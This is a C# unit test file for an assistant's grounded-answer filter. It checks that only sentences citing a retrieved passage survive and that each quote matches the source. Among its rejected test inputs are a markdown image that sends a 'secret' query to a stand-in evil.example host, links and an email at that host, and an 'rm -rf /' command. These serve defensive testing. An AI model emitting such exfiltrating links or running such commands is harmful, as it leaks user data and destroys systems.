using Parley.Assistant;
using Parley.Assistant.Composer;
using Parley.Assistant.Generation;
using Shouldly;
using Xunit;

namespace Parley.Tests.Unit.Assistant.Generation;

/// <summary>Only what cites a passage of its evidence is left, and each citation is the passage's own words.</summary>
public sealed class GroundedDraftTests
{
    private static readonly Evidence Cron = Passage("Cron jobs", "## Why it is skipped\n\nA cron job is skipped when the previous execution is still running. Make sure that your process exits.\n\n```\ncrontab -l\n```\n\nSee https://docs.example.org/cron for all.");
    private static readonly Evidence Time = Passage("Time zone", "Schedules are in UTC. The shortest interval is five minutes.\n\n| Plan | Interval |\n| --- | --- |\n| Free | an hour |\n| Pro | five minutes |");

    [Fact]
    public void Sentences_without_a_citation_are_dropped_and_the_others_read_as_one_text()
    {
        var draft = Read("Sure, let me help! A job is skipped while the one before is running [1]. That is how it is. Times are in UTC [2].\n\nI hope this helps.");
        draft.Text.ShouldBe("A job is skipped while the one before is running. Times are in UTC.");
        (draft.Pieces, draft.Kept).ShouldBe((5, 2));
        draft.Quotes.Select(q => q.Text).ShouldBe(["A cron job is skipped when the previous execution is still running.", "Schedules are in UTC."]);
        draft.Quotes.ShouldAllBe(q => AnswerVerifier.Contains(q.ChunkId == Cron.ChunkId ? Cron.Text : Time.Text, q));
    }

    [Theory]
    [InlineData("It is skipped [3].")]
    [InlineData("It is skipped [0].")]
    [InlineData("It is skipped [12, 99].")]
    [InlineData("It is skipped `[1]`.")]
    [InlineData("It is [1](https://docs.example.org/cron).")]
    [InlineData("NO_ANSWER [1]")]
    [InlineData("Read [more](https://evil.example/x) about it [1].")]
    [InlineData("![x](https://evil.example/?q=secret) is skipped [1].")]
    [InlineData("Write to win@evil.example [1].")]
    [InlineData("```\nrm -rf /\n```")]
    public void What_is_not_a_citation_of_a_passage_is_none(string text)
    {
        var draft = Read(text);
        draft.Kept.ShouldBe(0);
        draft.Text.ShouldBeEmpty();
    }

    [Fact]
    public void Addresses_that_the_passage_has_may_be_named()
    {
        Read("All of it is at https://docs.example.org/cron [1].").Kept.ShouldBe(1);
        Read("All of it is at https://docs.example.org/cron [2].").Kept.ShouldBe(0, "the other passage does not have it");
    }

    [Fact]
    public void A_list_entry_inherits_nothing_and_keeps_its_mark()
    {
        Read("Do this [1]:\n\n1. Look. Let your process exit [1].\n2. Wait.\n3. Times are in UTC [2].").Text.ShouldBe("Do this:\n\n1. Let your process exit.\n3. Times are in UTC.");
    }

    [Fact]
    public void Code_and_rows_are_kept_as_they_are()
    {
        var draft = Read("List them [1]:\n\n```\ncrontab -l [1]\n```\n[1]\n\n| Plan | Interval |\n| --- | --- |\n| Free | an hour [2] |\n| Team | a day |");
        draft.Text.ShouldBe("List them:\n\n```\ncrontab -l [1]\n```\n\n| Plan | Interval |\n| --- | --- |\n| Free | an hour |");
        draft.Quotes.Select(q => q.Text).ShouldContain("| Free | an hour |");
    }

    [Fact]
    public void Several_marks_are_several_citations_and_the_same_words_are_one()
    {
        var draft = Read("It is skipped while it is running, in UTC [1][2]. In UTC [2].");
        draft.Blocks[0].Cites.Count().ShouldBe(2);
        draft.Quotes.Count.ShouldBe(2);
        draft.Blocks[1].Cites.ShouldBe([1]);
    }

    [Fact]
    public void Another_language_is_kept_and_says_nothing_about_support()
    {
        var draft = Read("Ein Auftrag wird übersprungen, solange der vorige läuft [1].");
        draft.Kept.ShouldBe(1);
        draft.Quotes.Single().Text.ShouldNotBeEmpty();
    }

    [Fact]
    public void When_a_quotation_has_gone_every_sentence_that_rests_on_it_goes_and_the_rest_stays_in_order()
    {
        var draft = Read("Make sure that your process exits [1]. Schedules are in UTC [2]. A cron job is skipped when it is running [1][2].\n\nThe shortest interval is five minutes [2].").Answer(new Composition());
        var left = AnswerVerifier.Keep(draft, q => q.ChunkId == Time.ChunkId);
        left.Text.ShouldBe("Schedules are in UTC.\n\nThe shortest interval is five minutes.");
        left.Blocks.SelectMany(b => b.Cites).Distinct().ShouldBe([0, 1]);
        left.Quotes.Count.ShouldBe(2);
        AnswerVerifier.Keep(draft, _ => false).Abstained.ShouldBe(AbstainReason.NothingToQuote);
    }

    private static GroundedDraft Read(string text)
    {
        var (draft, cut) = (new GroundedDraft([Cron, Time]), new DraftPieces());
        foreach (var piece in cut.Push(text).Concat(cut.End()).ToList())
        {
            draft.Add(piece);
        }
        return draft;
    }

    private static Evidence Passage(string title, string text) => new() { ChunkId = Guid.CreateVersion7(), Version = 1, DocumentId = Guid.CreateVersion7(), Title = title, Text = text };
}
